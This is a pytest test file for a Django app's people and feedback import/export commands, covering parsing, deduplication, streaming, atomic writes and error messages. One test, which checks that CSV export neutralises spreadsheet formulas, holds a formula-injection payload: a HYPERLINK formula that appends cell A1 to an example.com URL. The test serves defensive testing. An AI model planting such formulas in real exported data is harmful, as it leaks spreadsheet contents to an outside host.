from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import json
import os
import resource
import signal
import sys
import threading
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from unittest import mock

import pytest
import tablib
import yaml
from django.core.management import CommandError, call_command

from catalog import services
from catalog.admin import PersonResource
from catalog.models import Feedback, Person
from core import dropfolder
from tests.factories import FeedbackFactory
from tests.processes import manage_py
from tests.servers import free_port

LAB = Path(__file__).resolve().parent.parent / "data" / "lab"
ROOT = Path(__file__).resolve().parent.parent.parent

pytestmark = pytest.mark.django_db


def run(*args: str) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def test_the_lab_feedback_samples_import_cleanly() -> None:
    summary = run("import_feedback", str(LAB / "feedback"))
    assert summary.strip() == "5 reviews created, 0 updated, 0 skipped as duplicates, 0 rejected."
    review = Feedback.objects.get(name="Katie")
    assert review.title == "Best experience so far"
    assert str(review.date) == "2019-12-09"
    assert review.text.startswith("My friend recommended this place")
    assert review.source == Feedback.Source.IMPORT
    assert review.status == Feedback.Status.PUBLISHED


@pytest.mark.parametrize(("command", "kind"), [("import_feedback", "feedback"), ("import_people", "people")])
def test_an_import_is_logged_in_one_line(
    command: str, kind: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    source = LAB / "feedback"
    if command == "import_people":
        source = tmp_path / "people.csv"
        source.write_text(PEOPLE_CSV, encoding="utf-8")
    with caplog.at_level("INFO", logger="catalog"):
        summary = run(command, str(source))
    assert " created, 0 updated" in summary
    lines = [r.getMessage() for r in caplog.records if " import" in r.getMessage()]
    assert lines == [f"{kind} import: {summary.strip()}"]


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_the_feedback_import_shows_a_progress_bar_on_a_terminal_only(monkeypatch: pytest.MonkeyPatch) -> None:
    terminal = Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    run("import_feedback", str(LAB / "feedback"))
    bar = terminal.getvalue()
    assert "100%" in bar
    assert "5/5" in bar
    assert "file/s" in bar

    log = io.StringIO()  # cron's: a file, not a terminal
    monkeypatch.setattr(sys, "stderr", log)
    run("import_feedback", str(LAB / "feedback"))
    assert log.getvalue() == ""


def test_importing_the_same_folder_twice_skips_every_duplicate() -> None:
    run("import_feedback", str(LAB / "feedback"))
    assert "0 reviews created, 0 updated, 5 skipped" in run("import_feedback", str(LAB / "feedback"))
    assert Feedback.objects.count() == 5


def test_messy_files_are_read_and_broken_ones_rejected_with_reasons(tmp_path: Path) -> None:
    (tmp_path / "crlf.txt").write_bytes("Nice\r\nAnn\r\n2020-01-02\r\nIt’s fine.\r\n\r\n".encode())
    (tmp_path / "copy.txt").write_bytes(b"Nice\nAnn\n2020-01-02\nIt\xe2\x80\x99s fine.")
    (tmp_path / "baddate.txt").write_bytes(b"Title\nBob\nyesterday\ntext")
    (tmp_path / "short.txt").write_bytes(b"Only a title\n")
    (tmp_path / "long.txt").write_bytes(b"x" * 101 + b"\nBob\n2020-01-01\ntext")
    (tmp_path / "notes.md").write_bytes(b"not a review")
    (tmp_path / "SHOUT.TXT").write_bytes(b"Loud\nCy\n2020-01-03\nALL CAPS NAME.")
    err = io.StringIO()
    out = io.StringIO()
    with pytest.raises(CommandError, match="3 file"):
        call_command("import_feedback", str(tmp_path), stdout=out, stderr=err)
    assert out.getvalue().strip() == "2 reviews created, 0 updated, 1 skipped as duplicates, 3 rejected."
    assert "rejected baddate.txt: line 3 is not a date" in err.getvalue()
    assert "rejected short.txt: expected at least 3 lines" in err.getvalue()
    assert "rejected long.txt: title:" in err.getvalue()
    assert sorted(Feedback.objects.values_list("text", flat=True)) == ["ALL CAPS NAME.", "It’s fine."]


def test_imported_reviews_wait_for_moderation_when_it_is_on(settings: object) -> None:
    settings.FEEDBACK_MODERATION = True  # type: ignore[attr-defined]
    run("import_feedback", str(LAB / "feedback"))
    assert set(Feedback.objects.values_list("status", flat=True)) == {Feedback.Status.PENDING}


def test_import_feedback_refuses_a_missing_directory(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="not a directory"):
        run("import_feedback", str(tmp_path / "nope"))


def test_a_large_import_is_done_in_batches(tmp_path: Path) -> None:
    for i in range(2500):
        (tmp_path / f"{i:05d}.txt").write_text(f"Title {i}\nName\n2021-02-03\nText {i % 2000}")
    assert run("import_feedback", str(tmp_path)).startswith("2500 reviews created")
    assert Feedback.objects.count() == 2500


PEOPLE_CSV = """name,username,phone,department,role,extra
Ada Fernández,afernandez,office: 802-867-5309; cell: 802-867-5310,Engineering,Lead,ignored
Kofi Mensah,kmensah,802-867-5311,Sales,Associate,
"""


def test_import_people_reads_the_course_csv_with_extra_columns(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text(PEOPLE_CSV, encoding="utf-8")
    assert (
        run("import_people", str(path)).strip()
        == "2 people created, 0 updated, 0 skipped as duplicates, 0 rejected."
    )
    ada = Person.objects.get(username="afernandez")
    assert ada.phone == {"office": "802-867-5309", "cell": "802-867-5310"}
    assert ada.name == "Ada Fernández"
    assert Person.objects.get(username="kmensah").phone == {"office": "802-867-5311"}


def test_import_people_updates_by_username(tmp_path: Path) -> None:
    path = tmp_path / "people.json"
    path.write_text(json.dumps([{"name": "A", "username": "a", "role": "Dev"}]))
    run("import_people", str(path))
    path.write_text(json.dumps([{"name": "A B", "username": "a", "role": "Lead"}]))
    assert "0 people created, 1 updated" in run("import_people", str(path))
    person = Person.objects.get()
    assert (person.name, person.role) == ("A B", "Lead")


def test_import_people_leaves_alone_what_the_file_does_not_carry(tmp_path: Path) -> None:
    Person.objects.create(
        name="Ada",
        username="ada",
        email="ada@example.com",
        phone={"office": "802-867-5309"},
        department="Engineering",
        role="Lead",
    )
    path = tmp_path / "people.csv"
    # The course's header: no email column.
    path.write_text("name,username,phone,department,role\nAda F,ada,802-867-5310,Sales,Associate\n")
    assert "0 people created, 1 updated" in run("import_people", str(path))
    ada = Person.objects.get()
    assert (ada.name, ada.email, ada.phone) == ("Ada F", "ada@example.com", {"office": "802-867-5310"})
    assert (ada.department, ada.role) == ("Sales", "Associate")

    path.write_text("name,username,is_active\nAda Fernández,ada,\nKofi,kofi,\n")
    assert "1 people created, 1 updated" in run("import_people", str(path))
    ada = Person.objects.get(username="ada")
    assert ada.name == "Ada Fernández"
    assert (ada.email, ada.phone, ada.department, ada.role) == (
        "ada@example.com",
        {"office": "802-867-5310"},
        "Sales",
        "Associate",
    )
    assert ada.is_active  # a blank cell is no answer
    kofi = Person.objects.get(username="kofi")
    assert (kofi.email, kofi.phone, kofi.department, kofi.is_active) == ("", {}, "", True)

    path.write_text("name,username,is_active,department\nAda,ada,no,\n")
    run("import_people", str(path))
    ada = Person.objects.get(username="ada")
    assert (ada.is_active, ada.department, ada.role) == (False, "", "Associate")  # a blank cell given clears


def test_import_people_rejects_bad_rows_and_keeps_good_ones(tmp_path: Path) -> None:
    path = tmp_path / "people.yaml"
    path.write_text(yaml.safe_dump([{"name": "Ok", "username": "ok"}, {"name": "", "username": "noname"}]))
    with pytest.raises(CommandError, match="1 row"):
        run("import_people", str(path))
    assert list(Person.objects.values_list("username", flat=True)) == ["ok"]


def test_import_people_says_why_a_file_cannot_be_read(tmp_path: Path) -> None:
    path = tmp_path / "people.json"
    path.write_text("{not json")
    with pytest.raises(CommandError, match="not valid JSON"):
        run("import_people", str(path))


@pytest.mark.parametrize(
    ("name", "content", "error"),
    [
        (
            "people.json",
            '{"people": [{"name": "Ann", "username": "ann"}, {"role": "a", "name": "Bob", "username": "bob", "role": "b"}]}',
            "people.json: person 2 gives role twice",
        ),
        (
            "people.yaml",
            "name: Ann\nusername: ann\nemail: a@example.com\nemail: b@example.com\n",
            "people.yaml: person 1 gives email twice",
        ),
    ],
    ids=["json-people-list", "yaml-one-person"],
)
def test_import_people_refuses_a_person_giving_a_key_twice_importing_nobody(
    tmp_path: Path, name: str, content: str, error: str
) -> None:
    path = tmp_path / name
    path.write_text(content)
    with pytest.raises(CommandError) as refused:
        run("import_people", str(path))
    assert str(refused.value) == error
    assert not Person.objects.exists()


def test_import_people_trims_phone_labels_and_refuses_a_blank_one(tmp_path: Path) -> None:
    path = tmp_path / "people.json"
    path.write_text(json.dumps([{"name": "Ann", "username": "ann", "phone": {" office ": "555"}}]))
    run("import_people", str(path))
    assert Person.objects.get().phone == {"office": "555"}

    path.write_text(json.dumps([{"name": "Ann", "username": "ann", "phone": {"": "556"}}]))
    with pytest.raises(CommandError) as refused:
        run("import_people", str(path))
    assert str(refused.value) == "people.json: person 1: the phone number '556' has a blank label"
    assert Person.objects.get().phone == {"office": "555"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("people.json", '[{"name": "Ann", "id": 1, "username": "ann", "id": 2}]'),
        ("people.yaml", "- {name: Ann, id: 1, username: ann, id: 2}\n"),
    ],
    ids=["json", "yaml"],
)
def test_import_people_takes_a_person_giving_a_key_no_import_reads_twice(
    tmp_path: Path, name: str, content: str
) -> None:
    path = tmp_path / name
    path.write_text(content)
    assert "1 people created" in run("import_people", str(path))
    assert Person.objects.get().name == "Ann"


@pytest.mark.parametrize("fmt", ["csv", "json", "yaml"])
def test_export_then_import_people_round_trips(tmp_path: Path, fmt: str) -> None:
    source = tmp_path / "people.csv"
    source.write_text(PEOPLE_CSV, encoding="utf-8")
    run("import_people", str(source))
    exported = tmp_path / f"out.{fmt}"
    call_command("export_people", "--format", fmt, "--output", str(exported), stderr=io.StringIO())
    before = list(
        Person.objects.order_by("username").values("name", "username", "phone", "department", "role")
    )
    Person.objects.all().delete()
    run("import_people", str(exported))
    after = list(
        Person.objects.order_by("username").values("name", "username", "phone", "department", "role")
    )
    assert after == before


@pytest.mark.parametrize("fmt", ["csv", "json", "yaml"])
def test_an_export_imported_again_over_the_same_people_changes_nobody(tmp_path: Path, fmt: str) -> None:
    Person.objects.create(
        name="عمر الفاروق 😀",
        username="omar",
        email="omar@example.com",
        phone={"cell": "802-867-5310", "office": "802-867-5309"},
        department="Engineering",
        role="x" * 100,
        is_active=False,
    )
    Person.objects.create(name="=1+2", username="eq", role="-lead")
    exported = tmp_path / f"people.{fmt}"
    call_command("export_people", "--format", fmt, "--output", str(exported), stderr=io.StringIO())
    before = list(Person.objects.order_by("username").values())

    summary = run("import_people", str(exported))

    assert summary.strip() == "0 people created, 0 updated, 2 skipped as duplicates, 0 rejected."
    assert list(Person.objects.order_by("username").values()) == before  # updated_at too


def test_an_import_that_only_reorders_the_phones_updates_the_person(tmp_path: Path) -> None:
    Person.objects.create(name="Ann", username="ann", phone={"office": "1", "cell": "2"})
    path = tmp_path / "people.json"
    path.write_text(json.dumps([{"name": "Ann", "username": "ann", "phone": {"cell": "2", "office": "1"}}]))
    assert "0 people created, 1 updated" in run("import_people", str(path))
    assert list(Person.objects.get().phone) == ["cell", "office"]


def test_export_people_writes_a_csv_cell_a_spreadsheet_would_run_as_text_and_import_reads_it_back(
    tmp_path: Path,
) -> None:
    # A formula is marked as text, as the admin's export marks it; a text that
    # starts with that mark already ('=Eng) keeps it through the round trip.
    Person.objects.create(name='=HYPERLINK("http://example.com/?"&A1,"Click")', username="+ada", role="@lead")
    Person.objects.create(name="Grace", username="grace", department="'=Eng", role="-")
    before = list(Person.objects.order_by("username").values("name", "username", "department", "role"))
    exported = tmp_path / "people.csv"
    call_command("export_people", "--output", str(exported), stderr=io.StringIO())
    rows = {row["username"]: row for row in csv.DictReader(io.StringIO(exported.read_text()))}
    assert rows["'+ada"]["name"] == '\'=HYPERLINK("http://example.com/?"&A1,"Click")'
    assert rows["'+ada"]["role"] == "'@lead"
    assert (rows["grace"]["department"], rows["grace"]["role"]) == ("''=Eng", "'-")
    Person.objects.all().delete()
    run("import_people", str(exported))
    after = list(Person.objects.order_by("username").values("name", "username", "department", "role"))
    assert after == before


def test_export_people_json_uses_the_phone_object_shape() -> None:
    Person.objects.create(name="A", username="a", phone={"office": "1"})
    data = json.loads(run("export_people", "--format", "json"))
    assert data[0]["phone"] == {"office": "1"}


def test_a_username_that_cannot_be_a_url_is_rejected_on_import(tmp_path: Path) -> None:
    path = tmp_path / "people.json"
    path.write_text(
        json.dumps([{"name": "Slash", "username": "image/webp"}, {"name": "Ok", "username": "ok"}])
    )
    with pytest.raises(CommandError, match="1 row"):
        run("import_people", str(path))
    assert list(Person.objects.values_list("username", flat=True)) == ["ok"]


@pytest.mark.parametrize(("name", "options"), [("people.tsv", []), ("people.txt", ["--format", "tsv"])])
def test_import_people_reads_a_tsv_file_as_the_admin_import_does(
    tmp_path: Path, name: str, options: list[str]
) -> None:
    path = tmp_path / name
    path.write_text(PEOPLE_CSV.replace(",", "\t"), encoding="utf-8")
    assert run("import_people", str(path), *options).strip() == (
        "2 people created, 0 updated, 0 skipped as duplicates, 0 rejected."
    )
    ada = Person.objects.get(username="afernandez")
    assert (ada.name, ada.phone, ada.role) == (
        "Ada Fernández",
        {"office": "802-867-5309", "cell": "802-867-5310"},
        "Lead",
    )


def test_import_people_names_a_tsv_header_that_lacks_a_column_as_tsv(tmp_path: Path) -> None:
    path = tmp_path / "people.tsv"
    path.write_text("name\tuser\nAnn\tann\n", encoding="utf-8")
    with pytest.raises(CommandError, match=r"^people\.tsv: the TSV header lacks username$"):
        run("import_people", str(path))
    assert not Person.objects.exists()


def test_the_admin_tsv_export_imported_by_import_people_changes_nobody(tmp_path: Path) -> None:
    Person.objects.create(name="Ada", username="ada", phone={"office": "1", "cell": "2"}, department="Eng")
    path = tmp_path / "people.tsv"
    path.write_text(PersonResource().export().tsv, encoding="utf-8")
    assert run("import_people", str(path)).strip() == (
        "0 people created, 0 updated, 1 skipped as duplicates, 0 rejected."
    )


def test_the_admin_import_export_resource_round_trips_phones() -> None:

    Person.objects.create(name="Ada", username="ada", phone={"office": "1", "cell": "2"}, department="Eng")
    dataset = PersonResource().export()
    assert "office: 1; cell: 2" in dataset.csv
    Person.objects.all().delete()
    result = PersonResource().import_data(tablib.Dataset().load(dataset.csv, format="csv"), dry_run=False)
    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert Person.objects.get(username="ada").phone == {"office": "1", "cell": "2"}


def test_a_review_already_posted_on_the_site_is_recognised_by_the_import(tmp_path: Path) -> None:

    services.feedback_submit(title="Nice", name="Ann", date=dt.date(2020, 1, 2), text="Fine.")
    (tmp_path / "a.txt").write_text("Nice\nAnn\n2020-01-02\nFine.\n")
    assert run("import_feedback", str(tmp_path)).strip() == (
        "0 reviews created, 0 updated, 1 skipped as duplicates, 0 rejected."
    )


def test_an_edited_review_gets_a_fresh_fingerprint_even_when_saving_some_fields() -> None:

    review = Feedback.objects.get(pk=FeedbackFactory(title="Old title").pk)
    old = review.fingerprint
    review.title = "New title"
    review.save(update_fields=["title"])
    stored = Feedback.objects.get(pk=review.pk)
    assert stored.fingerprint != old
    assert stored.fingerprint == stored.compute_fingerprint()


@contextlib.contextmanager
def file_size_limit(limit: int) -> Iterator[None]:
    """Writes of this process past ``limit`` bytes of a file fail (EFBIG), as
    on a disk that fills up. Lifted as the block ends: pytest's own report
    (a file, in CI) is written by this process too."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # the error, not the signal's kill
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, handler)


def test_an_export_that_cannot_be_written_leaves_the_previous_file_whole(tmp_path: Path) -> None:
    for i in range(50):
        Person.objects.create(name=f"Person {i}", username=f"p{i}", department="Sales")
    path = tmp_path / "people.csv"
    call_command("export_people", "-o", str(path), stderr=io.StringIO())
    previous = path.read_bytes()
    Person.objects.create(name="Newcomer", username="new")

    with (
        pytest.raises(
            CommandError, match=r"Cannot write .*people\.csv: File too large; the previous file is unchanged"
        ),
        file_size_limit(len(previous) // 2),
    ):
        call_command("export_people", "-o", str(path), stderr=io.StringIO())
    assert path.read_bytes() == previous
    assert sorted(p.name for p in tmp_path.iterdir()) == ["people.csv"]


def test_an_export_to_a_missing_folder_says_so(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match=r"no folder .*missing"):
        call_command("export_people", "-o", str(tmp_path / "missing" / "people.csv"), stderr=io.StringIO())


@pytest.mark.parametrize(
    "command",
    [["import_feedback", str(LAB / "feedback")], ["export_people", "--format", "json"], ["reprocess_images"]],
    ids=["import_feedback", "export_people", "reprocess_images"],
)
def test_a_database_that_is_away_is_one_line_and_exit_1_not_a_traceback(
    tmp_path: Path, command: list[str]
) -> None:
    env = {
        **os.environ,
        "PORTAL_VAR_DIR": str(tmp_path),
        "DATABASE_URL": f"postgres://portal:x@127.0.0.1:{free_port()}/portal",
    }
    done = manage_py(*command, env=env)
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "CommandError: The database is unavailable: " in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1, done.stderr


def test_import_people_refuses_a_username_the_file_gives_again_on_its_row(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text("name,username,role\nAnn,ann,Lead\nBea,bea,\nAnn B,ann,Clerk\n")
    err = io.StringIO()
    with pytest.raises(CommandError, match="1 row"):
        call_command("import_people", str(path), stdout=io.StringIO(), stderr=err)
    assert "rejected ann: username: ann is on row 1 already: a file gives each once." in err.getvalue()
    assert list(Person.objects.order_by("username").values_list("username", "name", "role")) == [
        ("ann", "Ann", "Lead"),
        ("bea", "Bea", ""),
    ]


def test_a_phone_number_longer_than_the_api_and_the_admin_take_is_refused_on_import(tmp_path: Path) -> None:
    path = tmp_path / "people.json"
    path.write_text(
        json.dumps(
            [
                {"name": "Ann", "username": "ann", "phone": {"office": "1" * 40}},
                {"name": "Bea", "username": "bea", "phone": {"office": "2", "cell": "3" * 41}},
            ]
        )
    )
    err = io.StringIO()
    with pytest.raises(CommandError, match="1 row"):
        call_command("import_people", str(path), stdout=io.StringIO(), stderr=err)
    assert "rejected bea: phone: The 'cell' number is longer than 40 characters." in err.getvalue()
    assert list(Person.objects.values_list("username", flat=True)) == ["ann"]

    dataset = tablib.Dataset(["Bea", "bea", "cell: " + "3" * 41], headers=["name", "username", "phone"])
    result = PersonResource().import_data(dataset, dry_run=False)
    assert result.has_validation_errors()
    assert list(Person.objects.values_list("username", flat=True)) == ["ann"]


def test_import_people_refuses_a_pipe_instead_of_waiting_for_ever(tmp_path: Path) -> None:
    pipe = tmp_path / "people.csv"
    os.mkfifo(pipe)
    run_over, writer_came = threading.Event(), threading.Event()

    def writer_if_the_run_waits() -> None:
        # Lets a run that waits on the pipe go on (and fail the test) instead
        # of hanging; a minute, far more than any run takes to refuse it.
        if not run_over.wait(60):
            writer_came.set()
            with contextlib.suppress(OSError):
                os.close(os.open(pipe, os.O_WRONLY | os.O_NONBLOCK))

    writer = threading.Thread(target=writer_if_the_run_waits, daemon=True)
    writer.start()
    try:
        with pytest.raises(CommandError, match=r"Cannot read .*people\.csv: not a regular file"):
            run("import_people", str(pipe))
    finally:
        run_over.set()
        writer.join()
    assert not writer_came.is_set()


def big_people_csv(path: Path, *, people: int, padding: int) -> None:
    """The course's CSV with an extra column of ``padding`` characters a row
    (ignored by the import): a large file of few people."""
    with path.open("w", encoding="utf-8") as fh:
        fh.write("name,username,phone,department,role,notes\n")
        for i in range(people):
            fh.write(f"Person {i},p{i},802-867-{i:04},Sales,Associate,{'n' * padding}\n")


def test_import_people_streams_a_large_file_in_little_memory(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    big_people_csv(path, people=400, padding=128 * 1024 - 100)  # 50 MB
    assert path.stat().st_size > 50_000_000
    tracemalloc.start()
    try:
        out = run("import_people", str(path))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert out.strip() == "400 people created, 0 updated, 0 skipped as duplicates, 0 rejected."
    assert peak < 10 * 1024 * 1024, f"peak {peak:,} bytes"
    assert Person.objects.get(username="p399").phone == {"office": "802-867-0399"}


def big_people_json(path: Path, *, people: int, padding: int) -> None:
    """A JSON list of people with a ``notes`` key of ``padding`` characters
    each (ignored by the import): a large file of few people."""
    with path.open("w", encoding="utf-8") as fh:
        fh.write("[\n")
        for i in range(people):
            person = {"name": f"Person {i}", "username": f"p{i}", "phone": f"802-867-{i:04}"}
            fh.write(("," if i else "") + json.dumps({**person, "notes": "n" * padding}) + "\n")
        fh.write("]\n")


def _import_peak(path: Path) -> tuple[str, int]:
    tracemalloc.start()
    try:
        out = run("import_people", str(path))
        return out, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_import_people_streams_a_large_json_file_in_little_memory(tmp_path: Path) -> None:
    path = tmp_path / "people.json"
    big_people_json(path, people=400, padding=128 * 1024 - 100)  # 50 MB
    assert path.stat().st_size > 50_000_000
    out, peak = _import_peak(path)
    assert out.strip() == "400 people created, 0 updated, 0 skipped as duplicates, 0 rejected."
    assert peak < 10 * 1024 * 1024, f"peak {peak:,} bytes"
    assert Person.objects.get(username="p399").phone == {"office": "802-867-0399"}


def test_a_fault_at_the_end_of_a_large_json_people_file_leaves_everyone_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / "people.json"
    big_people_json(path, people=300, padding=10_000)
    with path.open("r+b") as fh:
        fh.seek(-3, os.SEEK_END)
        fh.write(b",5]")  # the last item is no person
    with pytest.raises(CommandError, match=r"people\.json: the JSON file must hold a list of people"):
        run("import_people", str(path))
    assert not Person.objects.exists()


def test_a_fault_at_the_end_of_a_large_people_file_leaves_everyone_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    big_people_csv(path, people=300, padding=10_000)
    with path.open("ab") as fh:
        fh.write(b"Last,last,\xff\n")  # not UTF-8, past the first megabyte read
    with pytest.raises(CommandError, match=r"people\.csv: not UTF-8 text \(byte \d+\)"):
        run("import_people", str(path))
    assert not Person.objects.exists()


@contextlib.contextmanager
def appended_before_check(path: Path, *, check: int) -> Iterator[threading.Event]:
    """A program still writing ``path`` while the import reads it: a line
    lands once the import has read the file, just before its ``check``-th
    check that the file is as it was (1: after the read that checks the
    file, 2: after the read that imports it). Put there, not by a thread
    racing the read: on a loaded machine the read was over before such a
    thread saw the file open. The event is set once the line is written;
    were the import to check less often, it stays unset."""
    wrote = threading.Event()
    check_unchanged = dropfolder.check_unchanged
    seen = 0

    def written_to_then_checked(checked: Path, fd: int, before: os.stat_result) -> None:
        nonlocal seen
        if os.path.realpath(checked) == os.path.realpath(path):
            seen += 1
            if seen == check:
                with path.open("a", encoding="utf-8") as fh:
                    fh.write("Late,late,,,\n")
                wrote.set()
        check_unchanged(checked, fd, before)

    with mock.patch.object(dropfolder, "check_unchanged", written_to_then_checked):
        yield wrote


def test_a_people_file_written_to_while_it_is_read_is_not_imported(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text(PEOPLE_CSV, encoding="utf-8")
    out = io.StringIO()
    with appended_before_check(path, check=1) as wrote, pytest.raises(CommandError) as raised:
        call_command("import_people", str(path), stdout=out, stderr=io.StringIO())
    assert wrote.is_set()
    assert raised.value.returncode == 1
    assert str(raised.value) == (
        f"Cannot read {path}: it changed while it was being read; nothing was imported. "
        "Run the import again once the file is written."
    )
    assert out.getvalue() == ""
    assert not Person.objects.exists()


def test_a_people_file_written_to_while_it_is_imported_keeps_the_people_read_before(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text(PEOPLE_CSV, encoding="utf-8")
    out = io.StringIO()
    with appended_before_check(path, check=2) as wrote, pytest.raises(CommandError) as raised:
        call_command("import_people", str(path), stdout=out, stderr=io.StringIO())
    assert wrote.is_set()
    assert raised.value.returncode == 2
    assert str(raised.value) == (
        f"{path} changed while it was being read: the people above were read before it did. "
        "Run the import again once the file is written."
    )
    assert out.getvalue().strip() == "2 people created, 0 updated, 0 skipped as duplicates, 0 rejected."
    assert sorted(Person.objects.values_list("username", flat=True)) == ["afernandez", "kmensah"]


@pytest.mark.parametrize("output", ["", ".", "/"])
def test_an_export_to_a_folder_says_so(output: str) -> None:
    with pytest.raises(CommandError, match=r"^Cannot write .*: it is a folder\.$"):
        call_command("export_people", "-o", output, stderr=io.StringIO())
